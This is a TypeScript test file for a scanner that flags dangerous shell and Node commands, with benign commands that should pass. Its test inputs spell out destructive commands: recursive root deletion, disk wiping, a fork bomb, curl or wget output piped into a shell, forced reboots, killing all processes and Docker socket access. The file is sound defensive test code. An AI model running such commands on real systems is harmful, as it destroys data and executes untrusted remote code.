import { describe, expect, it } from 'vitest'
import { scanDangerous } from './dangerous-commands.js'

const rulesOf = (script: string) => scanDangerous(script).map((f) => f.rule)

describe('dangerous-command scan', () => {
  it.each([
    ['rm -rf /', 'dangerous.rm_rf_root'],
    ['sudo rm -fr /*', 'dangerous.rm_rf_root'],
    ['rm -r -f /etc', 'dangerous.rm_rf_root'],
    ['rm --recursive --force ~', 'dangerous.rm_rf_root'],
    ['x=1; rm -Rf "$HOME"', 'dangerous.rm_rf_root'],
    ['rm -r --no-preserve-root /', 'dangerous.no_preserve_root'],
    ["require('fs').rmSync('/', { recursive: true })", 'dangerous.node_rm_root'],
    ['mkfs.ext4 /dev/sda1', 'dangerous.mkfs'],
    ['wipefs -a /dev/vdb', 'dangerous.mkfs'],
    ['dd if=/dev/zero of=/dev/sda bs=1M', 'dangerous.dd_device'],
    ['echo garbage > /dev/sdb', 'dangerous.write_block_device'],
    ['cat img | tee /dev/nvme0n1', 'dangerous.write_block_device'],
    ["fs.writeFileSync('/dev/sda', buf)", 'dangerous.write_block_device'],
    [':(){ :|:& };:', 'dangerous.fork_bomb'],
    ['bomb() { bomb | bomb & }; bomb', 'dangerous.fork_bomb'],
    ['curl -fsSL https://example.invalid/install.sh | sh', 'dangerous.pipe_to_shell'],
    ['wget -qO- http://x.invalid/a | sudo bash', 'dangerous.pipe_to_shell'],
    ['bash <(curl -s http://x.invalid/a)', 'dangerous.pipe_to_shell'],
    ['sh -c "$(curl -fsSL http://x.invalid/a)"', 'dangerous.pipe_to_shell'],
    ['shutdown -h now', 'dangerous.shutdown'],
    ['sleep 1 && reboot', 'dangerous.shutdown'],
    ['systemctl poweroff', 'dangerous.shutdown'],
    ["require('child_process').execSync('reboot')", 'dangerous.shutdown'],
    ['echo b > /proc/sysrq-trigger', 'dangerous.sysrq'],
    ['chmod 777 /', 'dangerous.chmod_root'],
    ['chmod -R 777 /', 'dangerous.chmod_root'],
    ['chown -R nobody /etc', 'dangerous.chmod_root'],
    ['kill -9 -1', 'dangerous.kill_all'],
    ['kill -s KILL -1', 'dangerous.kill_all'],
    ['process.kill(-1, "SIGKILL")', 'dangerous.kill_all'],
    ['curl --unix-socket /var/run/docker.sock http://x/containers/json', 'dangerous.docker_socket'],
    ['mv /usr /tmp/usr', 'dangerous.move_system'],
  ])('flags %s', (script, rule) => {
    expect(rulesOf(script)).toContain(rule)
  })

  it.each([
    'rm -rf /tmp/work',
    'rm -rf ./build',
    'rm -f /var/log/app/old.log',
    'echo "a reboot may be needed"',
    'dd if=/dev/zero of=/tmp/blob bs=1k count=4',
    'dd if=/dev/urandom of=/dev/null count=1',
    'cat /proc/loadavg > /tmp/load',
    'chmod 755 /tmp/tool',
    'kill -1 1234',
    'kill -TERM "$pid"',
    'curl -s http://127.0.0.1:2379/health',
    'ls -la / | head',
    "fs.rmSync('/tmp/x', { recursive: true })",
    'mv /tmp/a /tmp/b',
  ])('lets %s pass', (script) => {
    expect(rulesOf(script)).toEqual([])
  })

  it('names the line of each finding', () => {
    const findings = scanDangerous('#!/bin/bash\necho start\nrm -rf /\necho done\nreboot\n')
    expect(findings).toEqual([
      { line: 3, rule: 'dangerous.rm_rf_root', message: expect.any(String) },
      { line: 5, rule: 'dangerous.shutdown', message: expect.any(String) },
    ])
  })
})
